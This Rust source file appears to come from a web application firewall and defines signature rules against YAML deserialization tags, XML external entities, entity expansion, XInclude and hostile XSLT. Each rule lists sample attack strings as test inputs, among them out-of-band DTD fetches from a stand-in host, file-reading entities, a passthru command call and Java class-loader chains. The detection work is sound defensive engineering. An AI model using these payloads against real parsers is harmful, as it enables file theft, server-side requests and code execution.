//! Markup by which a document makes its parser build objects or fetch others: tags of YAML that name a class or a function,
//! external entities of XML. Signatures, because nothing else looks like them; the parsers of declared XML bodies have
//! their own say.

use waf_shared::catalog::Leaf;

use crate::evidence::{Evidence, Subject};
use crate::field::Places;
use crate::rule::{Bucket, Detector, Rule, RuleMatcher, STRONG};

/// The rules, and the detector that reports one of them.
pub(crate) static BUCKET: Bucket = Bucket {
    rules: &[&[
        &YAML_OBJECT,
        &EXTERNAL_ENTITY,
        &PARAMETER_ENTITY,
        &EXTERNAL_SUBSET,
        &FOREIGN_SUBSET,
        &NESTED_ENTITIES,
        &INCLUSION,
        &STYLESHEET,
    ]],
    detectors: &[&SUBSETS],
};

/// Reads where the document type of an XML text lies.
static SUBSETS: Detector = Detector {
    name: "document-type",
    triggers: &[&["<!doctype"]],
    prefilter: None,
    places: Places::REQUEST,
    run,
};

/// Bytes of a document type that are looked at, and document types.
const SUBSET_BYTES_MAX: usize = 512;
const SUBSETS_MAX: usize = 16;

/// Hosts that publish document types which editors and programs name in their files.
const PUBLISHERS: &[&str] = &[
    "apache.org",
    "apple.com",
    "cxml.org",
    "docbook.org",
    "eclipse.org",
    "editeur.org",
    "hibernate.org",
    "hibernate.sourceforge.net",
    "java.sun.com",
    "jboss.org",
    "mybatis.org",
    "oasis-open.org",
    "openoffice.org",
    "oracle.com",
    "springframework.org",
    "testng.org",
    "w3.org",
];

fn run(subject: &Subject<'_>, evidence: &mut Evidence<'_>) {
    let bytes = subject.bytes;
    let starts = memchr::memchr_iter(b'<', bytes)
        .filter(|&at| bytes.get(at + 1..at + 9).is_some_and(|name| name.eq_ignore_ascii_case(b"!doctype")));
    for at in starts.take(SUBSETS_MAX) {
        let rest = bytes.get(at + 9..).unwrap_or_default();
        let rest = rest.get(..SUBSET_BYTES_MAX).unwrap_or(rest);
        if foreign_address(rest).is_some() {
            evidence.found(&FOREIGN_SUBSET, at, 9);
            return;
        }
    }
}

/// The system identifier behind the root's name, with or without a public one before it, if it is foreign.
fn foreign_address(rest: &[u8]) -> Option<&[u8]> {
    let rest = rest.trim_ascii_start();
    let name = rest.iter().position(u8::is_ascii_whitespace)?;
    let rest = rest.get(name..)?.trim_ascii_start();
    let (word, rest) = rest.split_at_checked(6)?;
    let mut strings = quoted(rest.trim_ascii_start());
    if word.eq_ignore_ascii_case(b"system") {
        return strings.next().filter(|address| is_foreign(address));
    }
    // A public identifier names what publishers of standards give out, from hosts with names.
    if !word.eq_ignore_ascii_case(b"public") {
        return None;
    }
    let standard = strings.next()?.starts_with(b"-//");
    strings.next().filter(|address| is_foreign(address) && !(standard && is_named(address)))
}

/// The strings at the beginning of `rest`.
fn quoted(mut rest: &[u8]) -> impl Iterator<Item = &[u8]> {
    std::iter::from_fn(move || {
        let (quote @ (b'"' | b'\''), inside) = rest.trim_ascii_start().split_first()? else { return None };
        let end = memchr::memchr(*quote, inside).unwrap_or(inside.len());
        rest = inside.get(end + 1..).unwrap_or_default();
        inside.get(..end)
    })
}

/// Returns `true` for an address that a parser would fetch from a host which publishes no document types, or from the machine.
fn is_foreign(address: &[u8]) -> bool {
    let address = address.trim_ascii();
    let scheme = address.iter().position(|byte| *byte == b':').and_then(|end| address.get(..end));
    let known = |list: &[&str]| {
        scheme.is_some_and(|scheme| list.iter().any(|one| one.as_bytes().eq_ignore_ascii_case(scheme)))
    };
    if known(&["jar", "netdoc", "gopher", "php", "expect", "ftp", "ldap", "dict"]) {
        return true;
    }
    let host = host(address);
    // Property lists name the folder of their document types so.
    if known(&["file"]) {
        return !host.eq_ignore_ascii_case(b"localhost");
    }
    if !known(&["http", "https"]) {
        return false;
    }
    !PUBLISHERS.iter().any(|publisher| {
        host.len().checked_sub(publisher.len()).is_some_and(|start| {
            let ends = host.get(start..).is_some_and(|end| end.eq_ignore_ascii_case(publisher.as_bytes()));
            ends && (start == 0 || host.get(start - 1) == Some(&b'.'))
        })
    })
}

/// The authority of an address.
fn host(address: &[u8]) -> &[u8] {
    let start = memchr::memmem::find(address, b"//").map_or(address.len(), |at| at + 2);
    let rest = address.get(start..).unwrap_or_default();
    let end = rest.iter().position(|byte| matches!(byte, b'/' | b'?' | b'#')).unwrap_or(rest.len());
    rest.get(..end).unwrap_or_default()
}

/// Returns `true` if the host of an address is a name without a port.
fn is_named(address: &[u8]) -> bool {
    let host = host(address.trim_ascii());
    let last = host.rsplit(|byte| *byte == b'.').next().unwrap_or_default();
    last.len() > 1 && last.len() < host.len() && last.iter().all(u8::is_ascii_alphabetic)
}

static YAML_OBJECT: Rule = Rule {
    id: "template-injection/yaml-class",
    leaf: Leaf::TemplateInjection,
    weight: STRONG,
    places: Places::REQUEST,
    matcher: RuleMatcher::Pattern {
        regex: r"2002:python/(?:object|name|module)\b|!(?:ruby/(?:object|hash|struct|class|module|exception)|php/object)\b|!!(?:com|java|javax|org|ch|sun)\.[a-z0-9_.]{4,80}\s*[\[{]",
        literals: &[
            "2002:python/",
            "!ruby/",
            "!php/",
            "!!com.",
            "!!java.",
            "!!javax.",
            "!!org.",
            "!!ch.",
            "!!sun.",
        ],
    },
    summary: "A tag of YAML makes the parser build an object of any class or call a function.",
    attacks: &[
        "--- !ruby/object:Gem::Installer\ni: x",
        "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[]]]",
        "!<tag:yaml.org,2002:python/object/new:exec>",
        "a: !php/object 'O:1'",
    ],
    benign: &[
        "Wow!! python is great",
        "!!binary R0lGODlh",
        "see ruby/object for more",
        "!!set {a, b}",
        "!!java. Really",
    ],
};

static EXTERNAL_ENTITY: Rule = Rule {
    id: "xml-parsing-entity-expansion/external-entity",
    leaf: Leaf::XmlParsingEntityExpansion,
    weight: STRONG,
    places: Places::REQUEST,
    matcher: RuleMatcher::Pattern {
        regex: r"<!entity\s+(?:%\s*)?[^\s%>]{1,128}\s+(?:system|public)\b",
        literals: &["<!entity"],
    },
    summary: "An XML entity is declared whose text lies elsewhere.",
    attacks: &[
        "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///a\">]><a>&x;</a>",
        "<!ENTITY % r SYSTEM 'http://203.0.113.7/a.dtd'> %r;",
        "<!entity\tx\tpublic \"a\" \"http://203.0.113.7/\">",
    ],
    benign: &[
        "<!DOCTYPE html>",
        "<!ENTITY copy \"(c)\">",
        "an entity of the system",
        "<!-- ENTITY x SYSTEM -->",
    ],
};

static PARAMETER_ENTITY: Rule = Rule {
    id: "xml-parsing-entity-expansion/parameter-entity",
    leaf: Leaf::XmlParsingEntityExpansion,
    weight: STRONG,
    places: Places::REQUEST,
    matcher: RuleMatcher::Pattern {
        regex: r"<!entity\s+(?:%|&#x?0*(?:37|25);)\s*[a-z0-9_.:-]",
        literals: &["<!entity"],
    },
    summary: "A parameter entity is declared, of which other declarations can be made.",
    attacks: &[
        "<!ENTITY % all \"<!ENTITY send 'x'>\">",
        "<!entity % a '%b;'>",
        "<!DOCTYPE r [<!ENTITY % d SYSTEM \"http://203.0.113.7/d\">%d;]>",
    ],
    benign: &["<!ENTITY copy \"100 %\">", "10 % entity", "<!DOCTYPE html>"],
};

static EXTERNAL_SUBSET: Rule = Rule {
    id: "xml-parsing-entity-expansion/external-subset",
    leaf: Leaf::XmlParsingEntityExpansion,
    weight: 3,
    places: Places::REQUEST,
    matcher: RuleMatcher::Pattern {
        regex: r#"<!doctype\s+[^\s>\[]{1,128}\s+system\s*["']"#,
        literals: &["<!doctype"],
    },
    summary: "The document type of an XML text lies elsewhere.",
    attacks: &[
        "<!DOCTYPE x SYSTEM \"//x/x\"><x/>",
        "<!DOCTYPE data SYSTEM 'http://203.0.113.7/oob.dtd'>",
        "<!doctype a system\"http://203.0.113.7/\">",
    ],
    benign: &[
        "<!DOCTYPE html>",
        "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">",
        "a doctype of the system",
    ],
};

static FOREIGN_SUBSET: Rule = Rule {
    id: "xml-parsing-entity-expansion/foreign-subset",
    leaf: Leaf::XmlParsingEntityExpansion,
    weight: STRONG,
    places: Places::REQUEST,
    matcher: RuleMatcher::Detected,
    summary: "The document type of an XML text is fetched from a host that publishes none, or from the machine.",
    attacks: &[
        "<?xml version=\"1.0\"?><!DOCTYPE data SYSTEM \"http://203.0.113.7/oob.dtd\"><data>&send;</data>",
        "<!DOCTYPE a SYSTEM 'file:///srv/a.dtd'>",
        "<!doctype x public \"a\" \"https://h.example/x\">",
        "<!DOCTYPE x PUBLIC \"-//A//DTD A//EN\" \"http://203.0.113.7/a.dtd\">",
        "<!DOCTYPE a SYSTEM \"jar:http://h.example/a.jar!/b\">",
        "<!DOCTYPE html SYSTEM \"http://www.w3.org.h.example/\">",
        "<!DOCTYPE a SYSTEM \"http://localhost/a\">",
    ],
    benign: &[
        "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">",
        "<!DOCTYPE plist SYSTEM \"file://localhost/System/Library/DTDs/PropertyList.dtd\">",
        "<!DOCTYPE log4j:configuration SYSTEM \"log4j.dtd\">",
        "<!DOCTYPE html SYSTEM \"about:legacy-compat\">",
        "<!DOCTYPE ncx PUBLIC \"-//NISO//DTD ncx 2005-1//EN\" \"http://www.daisy.org/z3986/2005/ncx-2005-1.dtd\">",
    ],
};

static NESTED_ENTITIES: Rule = Rule {
    id: "xml-parsing-entity-expansion/nested-entities",
    leaf: Leaf::XmlParsingEntityExpansion,
    weight: STRONG,
    places: Places::REQUEST,
    matcher: RuleMatcher::Pattern {
        regex: r#"<!entity\s+[\w.:-]{1,128}\s+(?:"[^"<>]{0,400}?&[\w.:-]{1,64};[^"<>]{0,400}?&[\w.:-]{1,64};|'[^'<>]{0,400}?&[\w.:-]{1,64};[^'<>]{0,400}?&[\w.:-]{1,64};)"#,
        literals: &["<!entity"],
    },
    summary: "An XML entity is made of several others, which grows with each that does so.",
    attacks: &[
        "<!DOCTYPE z [<!ENTITY a \"x\"><!ENTITY b \"&a;&a;\">]><z>&b;</z>",
        "<!ENTITY lots '&one;, &one;, &one;'>",
        "<!entity c \"&b;and&b;\">",
    ],
    benign: &[
        "<!ENTITY copy \"(c)\">",
        "<!ENTITY me \"&name;\">",
        "a &amp; b &amp; c",
        "<!ENTITY x SYS &a;&b;>",
    ],
};

static INCLUSION: Rule = Rule {
    id: "xml-parsing-entity-expansion/inclusion",
    leaf: Leaf::XmlParsingEntityExpansion,
    weight: STRONG,
    places: Places::REQUEST,
    matcher: RuleMatcher::Pattern {
        regex: r#"<(?:xi:)?include\s[^>]{0,200}\bhref\s*=\s*["']?(?:[a-z]+://|file:|/)"#,
        literals: &["include"],
    },
    summary: "An element of XInclude puts another document in its place.",
    attacks: &[
        "<xi:include parse=\"text\" href=\"file:///a\"/>",
        "<x xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"http://203.0.113.7/\"/></x>",
        "<include href='/srv/a.xml' />",
    ],
    benign: &[
        "#include <stdio.h>",
        "<a href=\"https://example.org/include\">include</a>",
        "<include layout=\"@layout/a\" />",
    ],
};

static STYLESHEET: Rule = Rule {
    id: "template-injection/stylesheet",
    leaf: Leaf::TemplateInjection,
    weight: STRONG,
    places: Places::REQUEST,
    matcher: RuleMatcher::Pattern {
        regex: concat!(
            r#"\bphp:function(?:string)?\s*\(\s*(?:\\?["']|&(?:quot|apos);)"#,
            r#"|system-property\s*\(\s*["']xsl:vendor"#,
            r#"|<\w{1,16}:(?:script|component)\s[^>]{0,200}\b(?:language|implements-prefix)\s*="#,
            r#"|<\w{1,16}:(?:document|result-document|write)\s[^>]{0,200}\b(?:href|file)\s*=\s*["'](?:/|[a-z]:[\\/]|file:)"#,
            r#"|xmlns:\w{1,16}\s*=\s*["'](?:http://xml\.apache\.org/xalan/java|http://xml\.apache\.org/xslt/java|java:|xalan://|http://saxon\.sf\.net/java-type|clitype:)"#,
            r#"|(?:document|doc|unparsed-text)\s*\(\s*["'](?:/etc/|/proc/|file:|[a-z]:[\\/]|https?://\d)"#,
        ),
        literals: &[
            "php:function",
            "xsl:vendor",
            ":script",
            ":component",
            ":document",
            ":result-document",
            ":write",
            "xalan",
            "xslt/java",
            "\"java:",
            "'java:",
            "java-type",
            "clitype:",
            "/etc/",
            "/proc/",
            "file:",
            "document(",
            "doc(",
            "unparsed-text(",
        ],
    },
    summary: "A stylesheet calls functions of the processor's language, writes files or reads the machine's.",
    attacks: &[
        "<xsl:value-of select=\"php:function('passthru','id')\"/>",
        "<xsl:stylesheet xmlns:rt=\"http://xml.apache.org/xalan/java/java.lang.Runtime\">",
        "<msxsl:script language=\"C#\" implements-prefix=\"u\">x</msxsl:script>",
        "<exsl:document href=\"/srv/www/a.php\" method=\"text\">",
        "<xsl:value-of select=\"system-property('xsl:vendor')\"/>",
        "<xsl:copy-of select=\"document('file:///srv/a')\"/>",
    ],
    benign: &[
        "<xsl:value-of select=\"document('codes.xml')//code\"/>",
        "<xsl:result-document href=\"page.html\">",
        "<xsl:value-of select=\"system-property('xsl:version')\"/>",
        "php:function",
        "document(url)",
    ],
};
